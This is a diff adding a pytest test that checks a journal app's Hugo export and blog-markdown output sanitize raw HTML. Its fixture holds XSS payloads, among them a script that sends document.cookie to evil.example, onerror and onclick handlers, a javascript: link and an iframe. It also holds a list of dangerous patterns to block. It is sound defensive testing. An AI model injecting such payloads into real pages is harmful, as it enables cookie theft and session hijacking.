@@ -113,3 +113,33 @@ def test_html_of_a_date_range(published, tmp_path):
         TransferService(published).export_to(
             "html", out, first=dt.date(2026, 3, 11), last=dt.date(2026, 3, 1)
         )
+
+
+HOSTILE = (
+    "Hello <b>there</b>.\n\n"
+    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
+    '<img src="x" onerror="alert(1)"> <IMG/src=x/onerror=alert(2)>\n'
+    '<a href="javascript:alert(3)">click</a> <iframe src="https://evil.example"></iframe>\n'
+    '<div onclick="alert(4)" style="position:fixed">boxed</div>\n'
+    "<!-- hidden <img src=x onerror=alert(5)> -->\n\n"
+    "A real link <https://example.com> and `a < b` in code.\n\n"
+    "```html\n<script>console.log('a code sample stays')</script>\n```\n"
+)
+
+
+def test_the_hugo_export_and_blog_markdown_sanitize_raw_html(journal, tmp_path):
+    from journal_app.services.transfer.publish import blog_markdown
+
+    entry = add_entry(journal, dt.date(2026, 3, 12), "Hostile", HOSTILE, visibility="public")
+    TransferService(journal).export_to("hugo", tmp_path / "content")
+    page = (tmp_path / "content/journal/2026-03-12-hostile/index.md").read_text()
+    for text in (page, blog_markdown(entry.id)):
+        prose, code = text.split("```html\n")
+        assert "&lt;IMG/src=x/onerror=alert(2)>" in prose  # not a tag: shown as text
+        tags = prose.replace("&lt;IMG/src=x/onerror=alert(2)>", "").lower()
+        for needle in ("<script", "<iframe", "onerror", "onclick", "javascript:", "style=", "<!--"):
+            assert needle not in tags, needle
+        assert "<img>" in prose
+        assert "Hello <b>there</b>." in prose and "<div>boxed</div>" in prose
+        assert "<https://example.com>" in prose
+        assert code == "<script>console.log('a code sample stays')</script>\n```\n"
